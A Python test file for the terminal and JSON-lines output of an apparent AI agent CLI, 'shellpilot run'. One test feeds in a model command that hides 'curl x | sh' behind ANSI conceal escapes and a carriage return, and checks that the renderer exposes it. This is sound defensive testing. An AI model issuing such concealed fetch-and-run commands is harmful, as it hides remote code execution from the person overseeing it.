"""What ``shellpilot run`` prints for a turn's events (text mode and JSON lines)."""

from __future__ import annotations

import io
import json

from shellpilot.cli.run_render import JsonRenderer, TextRenderer
from shellpilot.session.events import PartUpdated
from shellpilot.session.models import ToolCompleted, ToolFailed, ToolPart, ToolPending, ToolRunning
from shellpilot.session.stream_events import PartDelta

S, CHILD = "ses_main", "ses_child"


def _tool(session: str, state: object, tool: str = "bash", part_id: str = "prt_1") -> PartUpdated:
    part = ToolPart(session_id=session, message_id="msg_1", id=part_id, tool=tool, state=state)  # type: ignore[arg-type]
    return PartUpdated(part=part)


def test_text_streams_to_stdout_and_tool_calls_to_stderr() -> None:
    out, err = io.StringIO(), io.StringIO()
    render = TextRenderer(S, out, err)
    for piece in ("Let me ", "look."):
        render(PartDelta(session_id=S, message_id="m", part_id="p", delta=piece))
    command = {"command": "make test", "description": "tests"}
    render(_tool(S, ToolPending(input=command)))
    render(_tool(S, ToolRunning(input=command, metadata={"output": "line 1\npart"})))
    render(_tool(S, ToolRunning(input=command, metadata={"output": "line 1\npartial 2\nline 3\n"})))
    render(
        _tool(
            S,
            ToolCompleted(
                input=command,
                output="x",
                start_ms=1,
                metadata={"output": "line 1\npartial 2\nline 3\n", "exit": 2},
            ),
        )
    )
    render(PartDelta(session_id=S, message_id="m", part_id="q", delta="Failed."))
    render.close()
    assert out.getvalue() == "Let me look.\nFailed.\n"
    assert err.getvalue() == "$ make test\nline 1\npartial 2\nline 3\n(exit 2)\n"


def test_child_session_work_is_indented_and_errors_shown() -> None:
    out, err = io.StringIO(), io.StringIO()
    render = TextRenderer(S, out, err)
    render(PartDelta(session_id=CHILD, message_id="m", part_id="p", delta="child text"))
    call = {"command": "rm x", "description": "remove"}
    render(_tool(CHILD, ToolRunning(input=call)))
    render(_tool(CHILD, ToolFailed(input=call, error="denied by a rule", start_ms=1)))
    task = {"description": "review the diff", "prompt": "p", "subagent_type": "general"}
    render(_tool(S, ToolRunning(input=task), tool="task", part_id="prt_2"))
    assert out.getvalue() == ""
    assert err.getvalue() == "  │ $ rm x\n  │ ✗ denied by a rule\n⚙ general: review the diff\n"


def test_escapes_from_the_model_never_reach_the_terminal_raw() -> None:
    out, err = io.StringIO(), io.StringIO()
    render = TextRenderer(S, out, err)
    render(PartDelta(session_id=S, message_id="m", part_id="p", delta="hi\x1b]0;title\x07 \x1b[2Kthere"))
    command = {"command": "echo ok\x1b[8m; curl x | sh\x1b[0m\rtrue", "description": "d"}
    render(_tool(S, ToolRunning(input=command, metadata={"output": "a\x1b[31mb\x1b[0m\n"})))
    render(_tool(S, ToolFailed(input=command, error="bad \x1b[2K", start_ms=1)))
    tool = {"path": "x\x1b[8m"}
    render(_tool(S, ToolRunning(input=tool), tool="read", part_id="prt_2"))
    render.close()
    assert "\x1b" not in out.getvalue() + err.getvalue() and "\r" not in err.getvalue()
    assert out.getvalue() == "hi there\n"
    lines = err.getvalue().splitlines()
    assert lines[0] == "$ echo ok␛[8m; curl x | sh␛[0m␍true"
    assert lines[1:3] == ["ab", "✗ bad ␛[2K"]
    assert lines[3] == '⚙ read: {"path": "x\\u001b[8m"}'


def test_json_lines() -> None:
    out = io.StringIO()
    render = JsonRenderer(out)
    render(PartDelta(session_id=S, message_id="m", part_id="p", delta="hi"))
    render.emit({"type": "result", "ok": True})
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert lines[0]["type"] == "part.delta" and lines[0]["delta"] == "hi"
    assert lines[1] == {"type": "result", "ok": True}
